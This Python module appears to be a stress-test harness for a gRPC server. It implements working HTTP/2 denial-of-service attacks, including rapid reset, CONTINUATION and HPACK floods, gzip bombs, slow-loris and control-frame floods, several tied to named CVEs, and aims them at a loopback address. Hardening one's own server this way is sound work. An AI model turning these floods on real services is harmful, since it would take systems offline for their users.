"""What a hostile client does to a gRPC server, each attack a function of (address, size, hold_s).

`address` is HOST:PORT on loopback and speaks HTTP/2 without TLS. `size` is what the attack counts;
ATTACKS holds it. Every attack is bounded by its size and by PATIENCE_S, and returns a line that says
what the server did. That the server closes a connection is a right answer, never an error.
"""

import os
import random
import socket
import struct
import time
import zlib

import grpc

import h2

PATIENCE_S = 60
INFO = "/trine.v1.ServerService/GetServerInfo"
DECODE = "/trine.v1.CodingService/Decode"
ENCODE = "/trine.v1.CodingService/Encode"


class Tally:
    """Counts what happened; text() is the attack's line."""

    def __init__(self):
        self.counts = {}

    def add(self, what, count=1):
        self.counts[what] = self.counts.get(what, 0) + count

    def text(self):
        return ", ".join(f"{count} {what}" for what, count in self.counts.items())


def hold(connections, seconds):
    """Keeps connections open; how many the peer has closed at the end."""
    end = time.monotonic() + seconds
    while time.monotonic() < end:
        time.sleep(min(0.1, max(0.0, end - time.monotonic())))
    return sum(connection.drop_input() for connection in connections)


def close_all(connections):
    for connection in connections:
        connection.close()


def open_many(address, count, tally, **options):
    """Up to `count` connections; stops where none is taken any more."""
    connections = []
    refused = 0
    for _ in range(count):
        try:
            connections.append(h2.Connection(address, timeout=2.0, **options))
        except OSError:
            refused += 1
            if refused >= 5:
                break
    tally.add("connections", len(connections))
    if refused:
        tally.add("refused", refused)
    return connections


def send_all(address, chunks, tally, settings=()):
    """Sends chunks, over a new connection where the old one was closed."""
    end = time.monotonic() + PATIENCE_S
    connection = None
    chunks = list(chunks)
    position = 0
    closed = 0
    while position < len(chunks) and time.monotonic() < end and closed < 2000:
        try:
            connection = connection or h2.Connection(address, settings=settings)
            connection.send(chunks[position])
            tally.add("chunks sent")
            position += 1
            if connection.drop_input():
                raise ConnectionResetError
        except OSError:
            closed += 1
            position += 1
            if connection is not None:
                connection.close()
            connection = None
    if closed:
        tally.add("connections closed by the server", closed)
    if connection is not None:
        connection.close()


def rapid_reset(address, size, hold_s):
    """CVE-2023-44487: `size` streams, each opened and reset at once, 1,000 in a piece."""
    del hold_s
    tally = Tally()
    headers = h2.grpc_headers(ENCODE)
    body = h2.message(b"\x0a\x10" + b"x" * 16)
    pieces = []
    for first in range(0, size, 1000):
        # A stream's number may not repeat on a connection; 50 pieces to one.
        base = first % 50000
        piece = bytearray()
        for number in range(base, base + min(1000, size - first)):
            stream = 2 * number + 1
            piece += h2.frame(h2.HEADERS, h2.END_HEADERS, stream, headers)
            piece += h2.frame(h2.DATA, h2.END_STREAM, stream, body)
            piece += h2.frame(h2.RST_STREAM, 0, stream, struct.pack(">I", h2.CANCEL))
        pieces.append(bytes(piece))
    for first in range(0, len(pieces), 50):
        send_all(address, pieces[first:first + 50], tally)
    tally.add("streams", size)
    return tally.text()


def slow_loris(address, size, hold_s):
    """Connections that say nothing, half a preface, or half a call, and stay."""
    tally = Tally()
    third = size // 3
    connections = open_many(address, third, tally, preface=False)
    for connection in open_many(address, third, tally, preface=False):
        connections.append(connection)
        try:
            connection.send(h2.PREFACE[:10])
        except OSError:
            tally.add("refused the preface")
    for connection in open_many(address, size - 2 * third, tally):
        connections.append(connection)
        try:
            connection.send(h2.frame(h2.HEADERS, 0, 1, h2.grpc_headers(INFO)[:20]))
        except OSError:
            tally.add("refused the headers")
    tally.add("closed by the server", hold(connections, hold_s))
    close_all(connections)
    return tally.text()


def coded_zeros(address, count):
    """A small stream that Decode answers with `count` bytes."""
    request = b"\x0a" + varint(count) + b"\0" * count
    with grpc.insecure_channel(address) as channel:
        answer = channel.unary_unary(ENCODE)(request, timeout=PATIENCE_S, wait_for_ready=True)
    assert answer[0] == 0x0A, "EncodeResponse.coded comes first"
    size, at = read_varint(answer, 1)
    return answer[at:at + size]


def varint(value):
    """protobuf's varint."""
    out = bytearray()
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    out.append(value)
    return bytes(out)


def read_varint(data, at):
    value = shift = 0
    while True:
        byte = data[at]
        at += 1
        value |= (byte & 127) << shift
        shift += 7
        if byte < 128:
            return value, at


ANSWER_BYTES = 256 << 10


def slow_readers(address, size, hold_s):
    """Callers of 256 KiB answers whose windows stay shut: they never read."""
    tally = Tally()
    coded = coded_zeros(address, ANSWER_BYTES)
    request = h2.message(b"\x0a" + varint(len(coded)) + coded)
    connections = open_many(address, size, tally, settings=[(h2.INITIAL_WINDOW_SIZE, 0)])
    for connection in connections:
        try:
            connection.send(h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.grpc_headers(DECODE)) +
                            h2.frame(h2.DATA, h2.END_STREAM, 1, request))
        except OSError:
            tally.add("refused the call")
    tally.add("closed by the server", hold(connections, hold_s))
    close_all(connections)
    return tally.text()


def descriptor_storm(address, size, hold_s):
    """More connections than the server may have descriptors, then all of them gone."""
    tally = Tally()
    connections = open_many(address, size, tally)
    tally.add("closed by the server", hold(connections, hold_s))
    close_all(connections)
    return tally.text()


def hpack_flood(address, size, hold_s):
    """A 4,000-byte field in the dynamic table, then frames that name it 16,000 times a frame."""
    del hold_s
    tally = Tally()
    first = h2.field("x-bomb", "b" * 4000, indexed=True) + h2.grpc_headers(INFO)
    bomb = h2.grpc_headers(INFO) + b"\xbe" * 16000  # 62: the newest entry of the table
    for _ in range(0, size, 16):
        pieces = [h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 1, first)]
        for number in range(1, 17):
            pieces.append(
                h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 2 * number + 1, bomb))
        send_all(address, pieces, tally)
    return tally.text()


def hpack_varint(address, size, hold_s):
    """CVE-2023-33953: lengths written with endless zeros, and a table that grows and shrinks."""
    del hold_s
    tally = Tally()
    endless = b"\x00\x7f" + b"\x80" * 16000
    resize = b"\x3f\xe1\x1f\x20" * 2000
    pieces = []
    for number in range(size):
        block = endless if number % 2 else resize + h2.grpc_headers(INFO)
        pieces.append(h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, 1, block))
    for piece in pieces:
        send_all(address, [piece], tally)
    return tally.text()


def continuation_flood(address, size, hold_s):
    """Headers that never end: `size` CONTINUATION frames of 16 KiB, in fours of connections."""
    del hold_s
    tally = Tally()
    block = b"".join(h2.field(f"x-{i}", "c" * 1000) for i in range(16))[:16384]
    one = h2.frame(h2.CONTINUATION, 0, 1, block)
    for _ in range(4):
        start = h2.frame(h2.HEADERS, 0, 1, h2.grpc_headers(INFO))
        chunk = one * 16
        try:
            with h2.Connection(address) as connection:
                connection.send(start)
                for _ in range(size // 64):
                    connection.send(chunk)
                    tally.add("frames sent", 16)
                    if connection.drop_input():
                        raise ConnectionResetError
        except OSError:
            tally.add("connections closed by the server")
    return tally.text()


def zero_bomb(bytes_out):
    """gzip of zeros: a thousandth of what it inflates to."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    block = bytes(1 << 20)
    return b"".join(packer.compress(block) for _ in range(bytes_out >> 20)) + packer.flush()


def compressed_bomb(address, size, hold_s):
    """A gzip message that inflates to `size` MiB, honest and dishonest about its encoding."""
    del hold_s
    tally = Tally()
    # EncodeRequest.data, so that it would even parse.
    bomb = h2.message(zero_bomb(size << 20), compressed=True)
    variants = [[("grpc-encoding", "gzip")], [("grpc-encoding", "identity")], [],
                [("content-encoding", "gzip")], [("grpc-encoding", "deflate")]]
    for extra in variants:
        try:
            with h2.Connection(address) as connection:
                connection.send(h2.frame(h2.HEADERS, h2.END_HEADERS, 1,
                                         h2.grpc_headers(ENCODE, *extra)))
                # The first window only: 64 KiB of gzip are 64 MiB of zeros. More when it opens.
                status = send_windowed(connection, 1, bomb)
                tally.add(status)
        except OSError:
            tally.add("closed by the server")
    return tally.text()


def send_windowed(connection, stream, data, end_stream=True):
    """Sends a message as the windows allow; what the peer answered."""
    stream_window = connection_window = initial = 65535
    at = 0
    end = time.monotonic() + 10
    connection.socket.settimeout(5.0)
    try:
        while time.monotonic() < end:
            while at < len(data) and min(stream_window, connection_window) > 0:
                piece = data[at:at + min(16384, stream_window, connection_window)]
                at += len(piece)
                stream_window -= len(piece)
                connection_window -= len(piece)
                flags = h2.END_STREAM if end_stream and at == len(data) else 0
                connection.send(h2.frame(h2.DATA, flags, stream, piece))
            if at == len(data) and not end_stream:
                return "taken whole"
            got = connection.read_frame()
            if got is None:
                return "cut off"
            kind, flags, number, payload = got
            if kind == h2.WINDOW_UPDATE:
                grown = struct.unpack(">I", payload)[0]
                if number == 0:
                    connection_window += grown
                else:
                    stream_window += grown
            elif kind == h2.SETTINGS and not flags & h2.ACK:
                connection.send(h2.frame(h2.SETTINGS, h2.ACK, 0))
                for key, value in struct.iter_unpack(">HI", payload):
                    if key == h2.INITIAL_WINDOW_SIZE:
                        stream_window += value - initial
                        initial = value
            elif kind == h2.PING and not flags & h2.ACK:
                connection.send(h2.frame(h2.PING, h2.ACK, 0, payload))
            elif kind == h2.HEADERS and flags & h2.END_STREAM:
                return "refused" if b"grpc-status" in payload else "answered"
            elif kind in (h2.RST_STREAM, h2.GOAWAY):
                return "cut off"
    except TimeoutError:
        pass
    return "without an answer"


def bad_headers(address, size, hold_s):
    """CVE-2023-1428: a bad te, :scheme or grpclb_client_stats, then too many headers."""
    del hold_s
    tally = Tally()
    for _ in range(size):
        for long_bytes in (9000, 17000, 40000):
            fill = ("x-fill", "f" * long_bytes)
            for block in (h2.grpc_headers(INFO, fill, te="x"),
                          h2.grpc_headers(INFO, fill, scheme="x"),
                          h2.grpc_headers(INFO, ("grpclb_client_stats", "x"), fill),
                          # The order that was reported: the bad field first, the long one after.
                          h2.field("te", "x") + h2.grpc_headers(INFO, fill),
                          h2.grpc_headers(INFO, ("te", "x"), ("content-type", "x"), fill)):
                try:
                    with h2.Connection(address) as connection:
                        connection.send(h2.header_frames(1, block) + h2.frame(
                            h2.DATA, h2.END_STREAM, 1, h2.message(b"")))
                        tally.add(await_end(connection))
                except OSError:
                    tally.add("closed by the server")
    return tally.text()


def endless_message(address, size, hold_s):
    """A message that says it has 4 GiB, of which `size` MiB come; no more, no end."""
    tally = Tally()
    with h2.Connection(address) as connection:
        connection.send(h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.grpc_headers(ENCODE)))
        data = struct.pack(">BI", 0, (1 << 32) - 1) + bytes(size << 20)
        try:
            tally.add(send_windowed(connection, 1, data, end_stream=False))
        except OSError:
            tally.add("cut off")
        tally.add("closed by the server", hold([connection], hold_s))
    return tally.text()


def await_end(connection):
    connection.socket.settimeout(2.0)
    try:
        while True:
            got = connection.read_frame()
            if got is None:
                return "closed by the server"
            if got[0] in (h2.RST_STREAM, h2.GOAWAY) or (got[0] == h2.HEADERS and got[1] & 1):
                return "refused or answered"
    except TimeoutError:
        return "without an answer"


def control_flood(address, size, hold_s):
    """CVE-2019-9512, -9515, -9518: `size` pings, SETTINGS and empty DATA frames, unread."""
    del hold_s
    tally = Tally()
    ping = h2.frame(h2.PING, 0, 0, b"12345678")
    settings = h2.frame(h2.SETTINGS, 0, 0, struct.pack(">HI", 3, 100))
    start = h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.grpc_headers(INFO))
    for opening, one in ((b"", ping), (b"", settings), (start, h2.frame(h2.DATA, 0, 1))):
        try:
            with h2.Connection(address, timeout=5.0) as connection:
                connection.send(opening)
                for _ in range(size // 1000):
                    connection.send(one * 1000)  # what comes back stays unread
                    tally.add("frames sent", 1000)
        except OSError:
            tally.add("connections closed or stalled by the server")
    return tally.text()


def malformed(address, size, hold_s):
    """Frames and header blocks of random bytes, calls with bytes changed; the same every run."""
    del hold_s
    tally = Tally()
    rng = random.Random(1)
    good = (h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.grpc_headers(INFO)) +
            h2.frame(h2.DATA, h2.END_STREAM, 1, h2.message(b"")))
    for number in range(size):
        kind = number % 4
        if kind == 0:
            data = h2.PREFACE + rng.randbytes(rng.randrange(1, 300))
        elif kind == 1:
            data = h2.PREFACE + h2.frame(h2.SETTINGS, 0, 0) + b"".join(
                h2.frame(rng.randrange(0, 12), rng.randrange(256), rng.randrange(8),
                         rng.randbytes(rng.randrange(40))) for _ in range(8))
        elif kind == 2:
            data = h2.PREFACE + h2.frame(h2.SETTINGS, 0, 0) + h2.frame(
                h2.HEADERS, h2.END_HEADERS, 1, rng.randbytes(rng.randrange(1, 200)))
        else:
            changed = bytearray(h2.PREFACE + h2.frame(h2.SETTINGS, 0, 0) + good)
            for _ in range(3):
                changed[rng.randrange(24, len(changed))] = rng.randrange(256)
            data = bytes(changed)
        try:
            with h2.Connection(address, preface=False) as connection:
                connection.send(data)
                connection.socket.shutdown(socket.SHUT_WR)
                tally.add("connections")
                connection.drop_input()
        except OSError:
            tally.add("closed by the server")
    return tally.text()


# name: (attack, full size, little size)
ATTACKS = {
    "rapid-reset": (rapid_reset, 100_000, 5_000),
    "slow-loris": (slow_loris, 2_000, 150),
    "slow-readers": (slow_readers, 100, 20),
    "descriptor-storm": (descriptor_storm, 1_500, 150),
    "hpack-flood": (hpack_flood, 512, 32),
    "hpack-varint": (hpack_varint, 1_000, 50),
    "continuation-flood": (continuation_flood, 4_096, 256),
    "compressed-bomb": (compressed_bomb, 512, 64),
    "endless-message": (endless_message, 256, 16),
    "bad-headers": (bad_headers, 3, 1),
    "control-flood": (control_flood, 100_000, 10_000),
    "malformed": (malformed, 4_000, 400),
}


if __name__ == "__main__":
    import sys
    name, target = sys.argv[1:3]
    # The attacker is another machine in truth: here it may not take the server's processor.
    os.nice(10)
    attack, full, _ = ATTACKS[name]
    print(attack(target, int(sys.argv[3]) if len(sys.argv) > 3 else full, 10), flush=True)
